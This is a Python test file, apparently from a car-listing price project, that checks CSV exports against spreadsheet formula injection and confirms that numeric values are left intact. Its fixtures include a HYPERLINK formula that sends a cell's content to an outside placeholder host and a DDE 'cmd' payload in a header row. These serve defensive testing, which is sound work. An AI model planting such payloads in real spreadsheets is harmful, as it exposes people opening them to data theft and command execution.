"""No file that people open in a spreadsheet holds a cell that a spreadsheet runs."""

from __future__ import annotations

import csv
import io
import math
from pathlib import Path

import pandas as pd
import pytest

from carprice.landing.content import sha256_of
from carprice.lifecycle import typing_error_page
from carprice.listings.cleaning import clean
from carprice.listings.reading import read_raw
from carprice.params import Params, QualityParams
from carprice.quality.check import check_data_quality, try_file
from carprice.spreadsheets import SpreadsheetWriter, csv_text
from carprice.store import DataRoot

FORMULA = '=HYPERLINK("http://elsewhere/?"&A1,"price")'
HEADER = "Marque;Modèle;Année-Modèle;Kilométrage;Type de carburant;Prix;=cmd|' /C calc'!A0\n"


def cells(text: str, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text), delimiter=delimiter))


def runs(cell: str) -> bool:
    """Whether a spreadsheet runs the cell: it begins like a formula and is no number."""
    if cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠") or not cell:
        return False
    try:
        float(cell.replace(",", "."))
    except ValueError:
        return True
    return False


@pytest.mark.parametrize(
    "cell", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1", "＝1+1", "--", FORMULA]
)
def test_a_text_that_begins_like_a_formula_is_shown_as_text_and_read_back_as_it_was(cell: str) -> None:
    text = csv_text(pd.DataFrame({cell: [cell]}))
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [[f"'{cell}"], [f"'{cell}"]]
    assert clean(rows[1][0]) == clean(cell)


def test_numbers_stay_numbers() -> None:
    table = pd.DataFrame({"residual": [-0.25, -12.0, math.nan], "n": pd.array([1, None, -3], "Int64")})
    table["position"] = ["-7.58", "+212600000000", "33,57"]
    assert cells(csv_text(table), ",")[1:] == [
        ["-0.25", "1", "-7.58"],
        ["-12", "", "+212600000000"],
        ["", "-3", "33,57"],
    ]


def test_a_separator_that_a_spreadsheet_expects_begins_no_cell_within_a_text() -> None:
    words = {";": "Clio,=1+1,x", ",": "Clio;=1+1;x", "\t": "Clio;=1+1,@x"}
    for written, text in words.items():
        output = io.StringIO()
        SpreadsheetWriter(output, ["Modèle"], written).write([[text]])
        for expected in ",;\t":
            assert not any(runs(cell) for row in cells(output.getvalue(), expected) for cell in row)


def test_the_files_about_a_landed_file_hold_no_formula_of_it(tmp_path: Path) -> None:
    root = DataRoot(str(tmp_path))
    good = "".join(f"Dacia;Prototype {n};2015;1 km;Diesel;85000;@SUM(A{n})\n" for n in range(60))
    bad = f'Dacia;"{FORMULA.replace(chr(34), chr(34) * 2)}";2015;1 km;-2+3;selon état;+A1\n'
    path = tmp_path / "cars.csv"
    path.write_text(HEADER + good + bad)
    root.write_text("raw/cars.csv", HEADER + good + bad)
    sha256 = sha256_of(root, "raw/cars.csv")
    check_data_quality(root, Params(quality=QualityParams(min_rows=2)), "cars.csv", sha256)
    quarantine = root.read_bytes(f"quarantine/{sha256}.csv").decode("utf-8-sig")
    assert cells(quarantine, ";")[1][1] == f"'{FORMULA}"
    try_file(str(path), QualityParams(min_rows=2), row_list=str(tmp_path / "rows.csv"))
    for text, delimiter in ((quarantine, ";"), ((tmp_path / "rows.csv").read_text(), ",")):
        assert not [cell for row in cells(text, delimiter) for cell in row if runs(cell)]
    corrected = read_raw(quarantine.encode(), "corrected.csv")
    assert clean(str(corrected.table.iloc[0, 1])) == FORMULA


def test_the_list_of_typing_errors_holds_no_formula(tmp_path: Path) -> None:
    root = DataRoot(str(tmp_path))
    root.write_text("reports/quality/abc.html", "<html></html>")
    found = pd.DataFrame(
        {"listing_id": ["1"], "url": ["=1+1"], "make": ["@x"], "model": [FORMULA], "model_year": [2015.0],
         "price_mad": [850.0], "source_sha256": ["abc"], "expected_mad": [8.4e4], "suggestion": [""]}
    )  # fmt: skip
    typing_error_page.publish(root, found, ["abc"], "run")
    rows = cells(root.read_bytes("reports/quality/abc-typing-errors.csv").decode(), ",")
    assert rows[1][1:4] == ["'=1+1", "'@x", f"'{FORMULA}"]
    assert not [cell for row in rows for cell in row if runs(cell)]
